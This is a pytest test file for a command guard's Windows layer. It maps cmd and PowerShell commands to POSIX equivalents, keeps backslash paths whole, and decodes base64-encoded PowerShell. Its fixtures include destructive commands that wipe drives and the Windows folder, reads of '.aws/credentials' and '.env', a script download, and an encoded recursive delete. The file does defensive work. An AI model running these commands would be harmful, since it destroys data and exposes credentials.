"""shell/windows.py: Windows' own commands read as the POSIX line with the same effect, and
the tokenizer keeping a Windows path whole (its backslash separates, it escapes nothing)."""

from __future__ import annotations

import pytest

from forge_hookd.shell.commands import WINDOWS_HEADS, parse
from forge_hookd.shell.windows import HEADS, equivalent, posix_path, shell_code

# Starts no forge-hook-run: the warm pass (--warm) leaves it out (conftest.py).
pytestmark = pytest.mark.inprocess


@pytest.mark.parametrize(("path", "posix"), [
    ("C:\\", "/"), ("C:", "/"), ("D:\\", "/"),
    ("C:\\Users\\me", "~"), ("C:\\Users\\me\\src\\app", "~/src/app"), ("C:\\Users", "/home"),
    ("C:\\Windows\\System32", "/usr/System32"), ("C:\\Program Files\\Git", "/usr/Git"),
    ("C:\\build\\out", "/build/out"),
    ("$env:USERPROFILE\\.ssh", "~/.ssh"), ("$HOME", "~"), ("$env:TEMP\\x", "/tmp/x"),
    ("node_modules\\.bin", "node_modules/.bin"), ("./build", "./build"),
])
def test_a_windows_path_is_put_where_the_guards_know_its_place(path: str, posix: str) -> None:
    assert posix_path(path) == posix


@pytest.mark.parametrize(("argv", "line"), [
    (("Remove-Item", "-Recurse", "-Force", "C:\\"), "rm -rf /"),
    (("rm", "-r", "-fo", "C:\\Users\\me"), "rm -rf ~"),
    (("rd", "/s", "/q", "C:\\Windows"), "rm -rf /usr"),
    (("del", "/f", "/q", "notes.txt"), "rm -f notes.txt"),
    (("format", "C:"), "mkfs C:"),
    (("type", ".env"), "cat .env"),
    (("Get-Content", "$env:USERPROFILE\\.aws\\credentials"), "cat ~/.aws/credentials"),
    (("Stop-Computer", "-Force"), "shutdown -h now"),
    (("shutdown", "/s", "/t", "0"), "shutdown -h now"),
    (("Invoke-WebRequest", "https://x.example/i.ps1", "-OutFile", "i.ps1"), "curl -o i.ps1 https://x.example/i.ps1"),
    (("rm", "-rf", "build"), None),          # POSIX rm: the guards read it as it is
    (("type", "python"), None),              # bash's type: what a name is
    (("shutdown", "/a"), None),              # aborts a shutdown
])
def test_a_windows_command_reads_as_the_posix_line_with_its_effect(argv: tuple[str, ...], line: str | None) -> None:
    assert equivalent(argv) == line


def test_powershell_and_cmd_hand_their_code_on_and_an_encoded_one_is_unseen() -> None:
    assert shell_code(("powershell", "-NoProfile", "-Command", "Remove-Item", "x")) == ("powershell", "Remove-Item x")
    assert shell_code(("cmd", "/c", "rd /s /q C:\\")) == ("cmd", "rd /s /q C:\\")
    assert shell_code(("pwsh", "-enc", "ZQBjAGgAbwA=")) == ("encoded", "echo")  # base64 of UTF-16LE
    assert shell_code(("pwsh", "-enc", "not base64!")) == ("encoded", "")
    said = [c.unseen for c in parse("powershell -EncodedCommand ZQBjAGgAbwAgAGgAaQA=").commands if c.unseen]
    assert said == ["an encoded PowerShell command"]


@pytest.mark.parametrize(("line", "word"), [
    ("rd /s /q C:\\Users\\me", "C:\\Users\\me"),
    ('powershell -c "Remove-Item -Recurse -Force C:\\"', "Remove-Item -Recurse -Force C:\\"),
    (".\\i.ps1 -x", ".\\i.ps1"),
])
def test_the_tokenizer_keeps_a_windows_path_whole(line: str, word: str) -> None:
    parsed = parse(line)
    assert parsed.error is None and any(word in c.argv for c in parsed.commands), parsed


def test_a_backslash_elsewhere_still_escapes() -> None:
    assert parse("echo \\a\\b C\\:x").commands[0].argv == ("echo", "ab", "C:x")


def test_the_parser_hands_windows_py_every_name_it_reads() -> None:
    assert WINDOWS_HEADS == HEADS


def test_an_encoded_command_is_decoded_and_judged_and_still_unseen() -> None:
    import base64

    encoded = base64.b64encode("Remove-Item -Recurse -Force C:\\".encode("utf-16-le")).decode()
    commands = parse(f"powershell -EncodedCommand {encoded}").commands
    assert any(c.argv == ("rm", "-rf", "/") for c in commands), commands
    assert [c.unseen for c in commands if c.unseen] == ["an encoded PowerShell command"]
